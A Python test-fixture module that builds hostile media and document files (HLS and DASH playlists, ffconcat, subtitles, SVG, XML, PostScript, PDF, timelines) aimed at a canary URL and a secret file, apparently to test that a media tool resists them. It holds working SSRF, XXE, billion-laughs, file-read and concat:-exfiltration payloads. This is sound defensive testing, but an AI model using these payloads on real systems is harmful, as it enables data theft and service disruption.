"""Files that are made to do harm to whoever opens them. Each is told where a canary sits and where a secret lies."""

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.hostile import archives, films, pictures


@dataclass(frozen=True, kw_only=True)
class Bait:
    """`url` is that of the canary, `secret` a file beside that nobody may read, `film` one that would be readable."""

    url: str
    secret: Path
    film: Path

    @property
    def place(self) -> str:
        return self.url.removeprefix("http://")


def playlists(bait: Bait) -> dict[str, bytes]:
    """Texts that name other files and addresses, all under the name of a film."""
    url, place, secret, film = bait.url, bait.place, bait.secret, bait.film
    m3u = "#EXTM3U\n#EXT-X-TARGETDURATION:1\n{}\n#EXT-X-ENDLIST\n"
    texts = {
        "hls": m3u.format(f"#EXTINF:1,\n{url}/a.ts"),
        "hls-beside": m3u.format(f"#EXTINF:1,\n{film.name}"),
        "hls-file": m3u.format(f"#EXTINF:1,\nfile://{secret}"),
        "hls-concat": m3u.format(f"#EXTINF:1,\nconcat:{secret}|{url}/b"),
        "hls-key": m3u.format(f'#EXT-X-KEY:METHOD=AES-128,URI="{url}/key"\n#EXTINF:1,\n{film}'),
        "hls-map": m3u.format(f'#EXT-X-MAP:URI="{url}/map"\n#EXTINF:1,\n{film}'),
        "hls-master": f'#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{url}/v.m3u8\n#EXT-X-MEDIA:TYPE=AUDIO,URI="{url}/a"\n',
        "hls-late": "\n" * 5000 + m3u.format(f"#EXTINF:1,\n{url}/late.ts"),
        "hls-marked": "\ufeff" + m3u.format(f"#EXTINF:1,\n{url}/bom.ts"),
        "ffconcat": f"ffconcat version 1.0\nfile '{film}'\n",
        "ffconcat-url": f"ffconcat version 1.0\nfile '{url}/c.mp4'\n",
        "ffconcat-options": f"ffconcat version 1.0\nfile '{film}'\noption protocol_whitelist http,tcp,file\n",
        "ffmetadata": f";FFMETADATA1\ntitle={url}/title\n[CHAPTER]\nTIMEBASE=1/1\nSTART=0\nEND=1\n",
        "dash": f'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>{url}/</BaseURL><Period>'
        f'<AdaptationSet><Representation id="1"><BaseURL>{url}/d.mp4</BaseURL></Representation></AdaptationSet>'
        f"</Period></MPD>",
        "dash-xlink": f'<MPD xmlns:xlink="http://www.w3.org/1999/xlink"><Period xlink:href="{url}/p"/></MPD>',
        "smil": f'<smil><body><video src="{url}/s.mp4"/></body></smil>',
        "asx": f'<asx version="3.0"><entry><ref href="{url}/x.wmv"/></entry></asx>',
        "pls": f"[playlist]\nFile1={url}/p.mp4\nNumberOfEntries=1\n",
        "ism": f'<?xml version="1.0"?><SmoothStreamingMedia Url="{url}/ism"/>',
        "xspf": f'<playlist version="1"><trackList><track><location>{url}/x</location></track></trackList></playlist>',
        "sdp": f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\na=control:{url}/s\nm=video 9 RTP/AVP 96\n"
        "a=rtpmap:96 H264/90000\n",
        "rtsp": f"rtsptextrtsp://{place}/r\n",
        "ram": f"pnm://{place}/r.rm\n{url}/r.rm\n",
        "real-reference": f"[Reference]\nRef1={url}/ref\n",
        "avisynth": f'DirectShowSource("{url}/a.avi")\n',
        "vapoursynth": f"import urllib.request\nurllib.request.urlopen('{url}/v')\n",
        "cue": f'FILE "{film}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n',
        "srt": f'1\n00:00:00,000 --> 00:00:09,000\n<img src="{url}/srt">\n',
        "ass": f"[Script Info]\nVideo File: {film}\nAudio URI: {url}/ass\n[Fonts]\nfontname: {url}/f.ttf\n",
        "vtt": f"WEBVTT\nREGION\nid:x\nSTYLE\n::cue {{ background: url({url}/vtt) }}\n",
        "idx": f"# VobSub index file, v7\nid: en, index: 0\n# alt: {film}\n",
        "svg": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}/s.png"/>'
        f'<script>fetch("{url}")</script></svg>',
        "svg-entity": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file://{secret}">]><svg><text>&x;</text></svg>',
        "xml-entity": f'<?xml version="1.0"?><!DOCTYPE r SYSTEM "{url}/dtd"><r/>',
        "xml-laughs": '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol">'
        + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True))
        + "]><l>&j;</l>",
        "html": f'<html><meta http-equiv="refresh" content="0;url={url}/h"><script src="{url}/j"></script></html>',
        "mvg": f"push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 '{url}/m'\npop graphic-context\n",
        "postscript": f"%!PS\n({secret}) (r) file 99 string readstring pop print\n",
        "pdf": f"%PDF-1.4\n1 0 obj <</Type/Catalog/OpenAction<</S/URI/URI({url}/p)>>>> endobj\n",
        "url-shortcut": f"[InternetShortcut]\nURL={url}/u\n",
        "timeline": '{"OTIO_SCHEMA":"Timeline.1","tracks":{"OTIO_SCHEMA":"Stack.1","children":['
        '{"OTIO_SCHEMA":"Track.1",'
        f'"kind":"Video","children":[{{"OTIO_SCHEMA":"Clip.1","media_reference":{{"OTIO_SCHEMA":"ExternalReference.1",'
        f'"target_url":"{url}/t"}}}}]}}]}}}}',
        "timeline-deep": '{"OTIO_SCHEMA":"Stack.1","children":[' * 20_000,
        "final-cut": f'<?xml version="1.0"?><!DOCTYPE xmeml [<!ENTITY e SYSTEM "file://{secret}">]><xmeml version="5">'
        f"<sequence><name>&e;</name><media><video><track><clipitem><file><pathurl>{url}/fcp</pathurl></file>"
        f"</clipitem></track></video></media></sequence></xmeml>",
        "edl": f"TITLE: {url}\n001  AX V C 00:00:00:00 00:00:01:00 00:00:00:00 00:00:01:00\n"
        f"* FROM CLIP NAME: {secret}\n",
    }
    return {name: text.encode() for name, text in texts.items()}


MAKERS: tuple[Callable[[Bait], dict[str, bytes]], ...] = (
    playlists,
    lambda bait: films.harmful(bait.film.read_bytes(), bait.url, bait.secret, playlists(bait)["hls"]),
    lambda bait: pictures.harmful(bait.url),
    lambda bait: archives.harmful(bait.url),
)

TEXTS = frozenset(playlists(Bait(url="http://x", secret=Path("x"), film=Path("x"))))


def harmful(bait: Bait) -> dict[str, bytes]:
    made: dict[str, bytes] = {}
    for maker in MAKERS:
        made |= maker(bait)
    return made
